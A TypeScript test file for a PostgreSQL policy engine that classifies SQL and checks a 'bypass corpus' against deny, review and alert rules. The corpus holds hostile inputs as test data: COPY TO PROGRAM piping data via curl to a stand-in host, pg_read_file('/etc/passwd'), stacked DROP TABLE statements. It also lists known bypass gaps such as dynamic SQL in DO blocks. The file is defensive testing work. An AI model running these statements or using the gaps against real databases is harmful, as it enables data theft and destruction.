import { beforeAll, describe, expect, it } from 'vitest';
import YAML from 'yaml';
import { classifySql, initSqlParser, sqlCacheSize, sqlParseCount } from '../../policies/sql-classify.js';
import { evaluate, evaluateFastpath } from '../../policies/evaluator.js';
import { combineRuleFiles, parseRuleFile } from '../../policies/rules.js';
import type { Action, PolicyRequest } from '../../policies/policy.types.js';

beforeAll(async () => {
  await initSqlParser();
});

const RULES = combineRuleFiles([parseRuleFile(YAML.parse(`
command_rules:
  - name: no-drop
    protocol: postgres
    targets: ["*"]
    match: { statements: [DropStmt, TruncateStmt] }
    action: deny
  - name: bulk-change-needs-approval
    protocol: postgres
    match: { statements: [UpdateStmt, DeleteStmt], without_where: true }
    action: review
  - name: no-copy-program
    protocol: postgres
    match: { copy_program: true }
    action: deny
  - name: no-file-functions
    protocol: postgres
    match: { functions: [pg_read_file, lo_export, dblink] }
    action: deny
  - name: secrets-alert
    protocol: postgres
    match: { relations: [public.secrets] }
    action: alert
  - name: hr-writes-review
    protocol: postgres
    match: { statements: [UpdateStmt, DeleteStmt, InsertStmt], relations: ["hr.*"] }
    action: review
  - name: audit-drop-for-dba-only
    protocol: postgres
    roles: [dba]
    logins: ["app_*"]
    match: { statements: [SelectStmt], relations: [audit.log] }
    action: deny
`), 'sql.yaml')]);

const pg = (sql: string, extra: Partial<PolicyRequest> = {}): PolicyRequest =>
  ({ protocol: 'postgres', kind: 'sql', sql, user: 'u', groups: [], roles: [], target: 'db-1', login: 'postgres', ...extra }) as PolicyRequest;

const CORPUS: Array<[string, Action, string | undefined, string?]> = [
  ['SELECT 1', 'allow', undefined],
  ['DROP TABLE users', 'deny', 'no-drop'],
  ['drop   table   "Users" cascade', 'deny', 'no-drop'],
  ['TRUNCATE orders', 'deny', 'no-drop'],
  ['UPDATE t SET a = 1', 'review', 'bulk-change-needs-approval'],
  ['UPDATE t SET a = 1 WHERE id = 2', 'allow', undefined],
  ['DELETE FROM t', 'review', 'bulk-change-needs-approval'],
  ['WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x', 'review', 'bulk-change-needs-approval', 'CTE-hidden DML'],
  ['WITH x AS (UPDATE t SET a=1 RETURNING *) SELECT count(*) FROM x WHERE true', 'review', 'bulk-change-needs-approval', 'outer WHERE does not count'],
  ['SELECT 1; DROP TABLE users', 'deny', 'no-drop', 'multi-statement'],
  ['SELECT 1; DELETE FROM t; SELECT 2', 'review', 'bulk-change-needs-approval'],
  ["COPY t TO PROGRAM 'curl -d @- evil'", 'deny', 'no-copy-program'],
  ["COPY (SELECT 1) TO PROGRAM 'id'", 'deny', 'no-copy-program'],
  ["COPY t TO '/tmp/x'", 'allow', undefined],
  ["SELECT pg_read_file('/etc/passwd')", 'deny', 'no-file-functions'],
  ["SELECT pg_catalog.pg_read_file('/etc/passwd')", 'deny', 'no-file-functions', 'schema-qualified'],
  ["SELECT * FROM (SELECT lo_export(1, '/tmp/x')) s", 'deny', 'no-file-functions', 'function in subquery'],
  ["SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", 'deny', 'no-file-functions', 'function in FROM'],
  ["SELECT 1 WHERE EXISTS (SELECT pg_read_file('x'))", 'deny', 'no-file-functions'],
  ['SELECT * FROM secrets', 'alert', 'secrets-alert', 'unqualified matches public.x'],
  ['SELECT * FROM public.secrets', 'alert', 'secrets-alert'],
  ['SELECT * FROM other.secrets', 'allow', undefined],
  ['SELECT * FROM a JOIN secrets s ON true', 'alert', 'secrets-alert', 'join'],
  ['WITH s AS (SELECT * FROM secrets) SELECT * FROM s', 'alert', 'secrets-alert', 'relation in CTE'],
  ['SELECT (SELECT max(x) FROM secrets)', 'alert', 'secrets-alert', 'scalar subquery'],
  ['INSERT INTO hr.salaries VALUES (1)', 'review', 'hr-writes-review'],
  ['SELECT * FROM hr.salaries', 'allow', undefined],
  ['UPDATE hr.salaries SET x = 1 WHERE id = 3', 'review', 'hr-writes-review'],
  ['UPDATE hr.salaries SET x = 1', 'review', 'bulk-change-needs-approval', 'equal strength: the first rule in file order is reported'],
  ['DROP TABLE secrets; SELECT 1', 'deny', 'no-drop', 'deny beats alert'],
  ['PREPARE p AS DELETE FROM t', 'review', 'bulk-change-needs-approval', 'PREPAREd DML'],
  ['CREATE TABLE c AS SELECT * FROM secrets', 'alert', 'secrets-alert'],
  ['SELEC 1', 'deny', 'unparseable-sql'],
  ["SELECT 'unterminated", 'deny', 'unparseable-sql'],
  ['', 'allow', undefined, 'empty query'],
  ['-- only a comment', 'allow', undefined],
  // Known gaps, asserted so the behaviour is documented (see policies/README.md).
  ["DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", 'allow', undefined, 'KNOWN GAP: dynamic SQL in DO / functions (deny DoStmt instead)'],
  ['EXECUTE p', 'allow', undefined, 'KNOWN GAP: EXECUTE of a statement prepared earlier (the PREPARE was checked)'],
  ['SET search_path = other; SELECT * FROM secrets', 'alert', 'secrets-alert', 'unqualified still treated as public.secrets (over-approximation)'],
  ['SELECT * FROM secrets_view', 'allow', undefined, 'KNOWN GAP: views and functions reading a protected table'],
];

describe('SQL bypass corpus', () => {
  it.each(CORPUS)('%j → %s', (sql, action, rule) => {
    const v = evaluate(RULES, pg(sql), 'allow');
    expect({ action: v.action, rule: v.rule }).toEqual({ action, rule });
  });

  it('logins and roles narrow a rule', () => {
    expect(evaluate(RULES, pg('SELECT * FROM audit.log', { roles: ['dba'], login: 'app_rw' }), 'allow').rule).toBe('audit-drop-for-dba-only');
    expect(evaluate(RULES, pg('SELECT * FROM audit.log', { roles: ['sre'], login: 'app_rw' }), 'allow').action).toBe('allow');
    expect(evaluate(RULES, pg('SELECT * FROM audit.log', { roles: ['dba'], login: 'postgres' }), 'allow').action).toBe('allow');
  });

  it('unparseable_sql can be relaxed by a policy file', () => {
    const relaxed = combineRuleFiles([parseRuleFile({ unparseable_sql: 'alert' }, 'x.yaml')]);
    expect(evaluate(relaxed, pg('SELEC 1'), 'allow')).toMatchObject({ action: 'alert', rule: 'unparseable-sql' });
  });
});

describe('allow-list mode for SQL', () => {
  const ro = combineRuleFiles([parseRuleFile(YAML.parse(`
default_action: { "prod-*": deny }
command_rules:
  - { name: reads, protocol: postgres, targets: ["prod-*"], match: { statements: [SelectStmt] }, action: allow }
  - { name: reports, protocol: postgres, targets: ["prod-*"], match: { relations: ["reports.*"] }, action: allow }
`), 'ro.yaml')]);
  const cases: Array<[string, Action]> = [
    ['SELECT * FROM users', 'allow'],
    ['DELETE FROM users WHERE id = 1', 'deny'],
    ['WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x', 'deny'],
    ['SELECT 1; UPDATE t SET a = 1 WHERE id = 1', 'deny'],
    ['UPDATE reports.daily SET a = 1 WHERE id = 1', 'allow'],
    ['UPDATE reports.daily SET a = 1 FROM public.users WHERE true', 'deny'],
  ];
  it.each(cases)('%j → %s', (sql, action) => {
    expect(evaluate(ro, pg(sql, { target: 'prod-db' }), 'allow').action).toBe(action);
  });
  it('the target default applies when stronger than the file default', () => {
    expect(evaluate(ro, pg('DELETE FROM x WHERE a = 1', { target: 'dev' }), 'allow').action).toBe('allow');
    expect(evaluate(ro, pg('DELETE FROM x WHERE a = 1', { target: 'dev' }), 'review').action).toBe('review');
  });
});

describe('classifySql', () => {
  it('reports types, relations, functions per statement', () => {
    const r = classifySql("WITH x AS (DELETE FROM s.t RETURNING *) SELECT upper(a) FROM x JOIN (SELECT * FROM u) q ON true; COPY v FROM PROGRAM 'x'");
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.statements).toHaveLength(2);
    expect(r.statements[0]).toMatchObject({ type: 'SelectStmt', withoutWhere: ['DeleteStmt'], functions: ['upper'] });
    expect(r.statements[0]!.types).toEqual(expect.arrayContaining(['SelectStmt', 'DeleteStmt']));
    expect(r.statements[0]!.relations).toEqual(expect.arrayContaining([{ schema: 's', name: 't' }, { name: 'u' }]));
    expect(r.statements[1]).toMatchObject({ type: 'CopyStmt', copyProgram: true, relations: [{ name: 'v' }] });
  });

  it('caches by text, bounded', () => {
    const before = sqlCacheSize();
    const a = classifySql('SELECT 42 AS cached');
    expect(classifySql('SELECT 42 AS cached')).toBe(a);
    expect(sqlCacheSize()).toBe(before + 1);
    for (let i = 0; i < 5200; i++) classifySql(`SELECT ${i}`);
    expect(sqlCacheSize()).toBeLessThanOrEqual(5000);
  });

  it('a cache hit does not parse again', () => {
    const q = 'SELECT a, b, c FROM t JOIN u USING (id) WHERE x IN (SELECT y FROM z) ORDER BY 1 -- cache hit';
    const before = sqlParseCount();
    const first = classifySql(q);
    expect(sqlParseCount()).toBe(before + 1);
    for (let i = 0; i < 10_000; i++) expect(classifySql(q)).toBe(first);
    expect(sqlParseCount()).toBe(before + 1);
  });
});

describe('fastpath FunctionCall (no SQL text)', () => {
  const subject = { user: 'u', groups: [], roles: [] as string[], target: 'db-1', login: 'postgres' };
  const file = (yaml: string) => combineRuleFiles([parseRuleFile(YAML.parse(yaml), 'fp.yaml')]);

  it('is refused where a functions rule applies, naming it', () => {
    expect(evaluateFastpath(RULES, subject, 'allow')).toMatchObject({ action: 'deny', rule: 'no-file-functions' });
  });

  it('is allowed where no functions rule applies (other target, other login, allow rule)', () => {
    const rules = file(`command_rules:
  - { name: f-elsewhere, protocol: postgres, targets: [prod-*], match: { functions: [lo_import] }, action: deny }
  - { name: f-app-only, protocol: postgres, logins: [app_*], match: { functions: [lo_import] }, action: deny }
  - { name: f-allowed, protocol: postgres, match: { functions: [lo_creat] }, action: allow }
  - { name: no-drop, protocol: postgres, match: { statements: [DropStmt] }, action: deny }
`);
    expect(evaluateFastpath(rules, subject, 'allow')).toEqual({ action: 'allow' });
    expect(evaluateFastpath(rules, { ...subject, target: 'prod-1' }, 'allow')).toMatchObject({ action: 'deny', rule: 'f-elsewhere' });
    expect(evaluateFastpath(rules, { ...subject, login: 'app_rw' }, 'allow')).toMatchObject({ action: 'deny', rule: 'f-app-only' });
  });

  it('is refused in allow-list mode (target or file default other than allow)', () => {
    expect(evaluateFastpath(file('command_rules: []\n'), subject, 'deny').action).toBe('deny');
    expect(evaluateFastpath(file('command_rules: []\n'), subject, 'alert').action).toBe('deny');
    expect(evaluateFastpath(file('default_action: { "db-*": review }\n'), subject, 'allow').action).toBe('deny');
    expect(evaluateFastpath(file('default_action: { "other": deny }\n'), subject, 'allow').action).toBe('allow');
  });
});
